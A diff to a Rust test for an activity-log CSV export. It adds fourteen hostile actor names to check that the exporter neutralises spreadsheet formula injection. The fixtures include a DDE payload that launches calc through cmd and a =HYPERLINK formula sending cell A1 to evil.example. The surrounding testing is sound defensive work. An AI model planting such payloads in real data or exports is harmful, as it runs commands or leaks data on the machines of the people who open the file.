@@ -6,6 +6,23 @@ use crate::activity_log::csv::{header, rows};
 
 const GOLDEN: &str = include_str!("golden.csv");
 
+const NAMES: [&str; 14] = [
+    "+1",
+    "-1",
+    "\tTab",
+    "\rReturn",
+    "Line\r\n=break",
+    "'",
+    "|x",
+    " =1",
+    "x;=cmd|' /C calc'!A0",
+    "x\t+1",
+    "\"=1\";\"@SUM(1)\"",
+    "x; ＝1",
+    "＋1,－2",
+    "x ＠SUM(1)",
+];
+
 /// A log in which everything is hostile that people can type, and more than they can.
 async fn hostile() -> World {
     let world = World::new().await;
@@ -14,7 +31,7 @@ async fn hostile() -> World {
     let name = r#"=HYPERLINK("http://evil.example/?x="&A1,"Click")"#;
     let first = vec![created("acme", name), invited()];
     world.app(APP, &user("Jürgen “Jü” Öz, \"Admin\""), first).await;
-    for name in ["+1", "-1", "\tTab", "\rReturn", "Line\r\nbreak", "'", "|x", " =1"] {
+    for name in NAMES {
         world.tick();
         let mut by = user(name);
         by.request_id = format!("-{name}");
@@ -46,17 +63,69 @@ async fn r29_no_cell_can_act_as_a_formula() {
         .await
         .concat();
     let rows = read(&csv);
-    assert_eq!(rows.len(), 12);
-    for cell in rows.iter().flatten() {
-        assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "{cell:?}");
-    }
+    assert_eq!(rows.len(), 4 + NAMES.len());
     assert!(rows[2][4].starts_with("'=HYPERLINK("), "{:?}", rows[2]);
     assert!(rows[1][6].starts_with("'@SUM(1+1) registered"), "{:?}", rows[1]);
     let actors: Vec<_> = rows[4..].iter().map(|row| row[9].as_str()).collect();
     assert_eq!(
         actors,
-        ["'+1", "'-1", "'\tTab", "'\rReturn", "Line\r\nbreak", "'", "|x", " =1"]
+        [
+            "'+1",
+            "'-1",
+            "'\tTab",
+            "'\rReturn",
+            "Line\r\n'=break",
+            "'",
+            "|x",
+            " '=1",
+            "x;'=cmd|' /C calc'!A0",
+            "x\t'+1",
+            "\"'=1\";\"'@SUM(1)\"",
+            "x; '＝1",
+            "'＋1,'－2",
+            "x '＠SUM(1)",
+        ]
     );
+    let text = String::from_utf8(csv).unwrap();
+    for separator in [',', ';', '\t', '|'] {
+        let cells = as_opened(&text, separator);
+        assert!(cells.len() >= rows.len(), "{separator:?}: {}", cells.len());
+        for cell in cells {
+            let shown = cell.trim_start_matches(' ');
+            assert!(!shown.starts_with(FORMULA_STARTS), "{separator:?}: {cell:?}");
+        }
+    }
+}
+
+const FORMULA_STARTS: [char; 10] = ['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠'];
+
+/// The cells that a spreadsheet sees whose list separator this is: a quote opens only at the beginning of a cell, and
+/// what follows the closing one up to the separator is part of the cell.
+fn as_opened(text: &str, separator: char) -> Vec<String> {
+    let (mut cells, mut cell) = (Vec::new(), String::new());
+    let (mut quoted, mut begins) = (false, true);
+    let mut chars = text.chars().peekable();
+    while let Some(c) = chars.next() {
+        match c {
+            '"' if begins => quoted = true,
+            '"' if quoted && chars.peek() == Some(&'"') => {
+                chars.next();
+                cell.push('"');
+            }
+            '"' if quoted => quoted = false,
+            c if !quoted && (c == separator || c == '\n') => {
+                cells.push(std::mem::take(&mut cell));
+                begins = true;
+                continue;
+            }
+            // Where it ends a line.
+            '\r' if !quoted && chars.peek() == Some(&'\n') => {}
+            c => cell.push(c),
+        }
+        begins = false;
+    }
+    cells.push(cell);
+    cells
 }
 
 #[tokio::test]
@@ -89,8 +158,8 @@ async fn r29_every_row_has_the_columns_of_the_header_and_ends_with_crlf() {
     let header = header().unwrap();
     assert_eq!(
         String::from_utf8_lossy(&header),
-        "position,sequence,recorded_at,app_id,app_name,event,summary,actor_type,actor_id,actor_name,ip_address,\
-         request_id,details,previous_hash,hash\r\n"
+        "\"position\",\"sequence\",\"recorded_at\",\"app_id\",\"app_name\",\"event\",\"summary\",\"actor_type\",\
+         \"actor_id\",\"actor_name\",\"ip_address\",\"request_id\",\"details\",\"previous_hash\",\"hash\"\r\n"
     );
     for stored in world.stored().await {
         let row = rows(std::slice::from_ref(&stored)).unwrap();
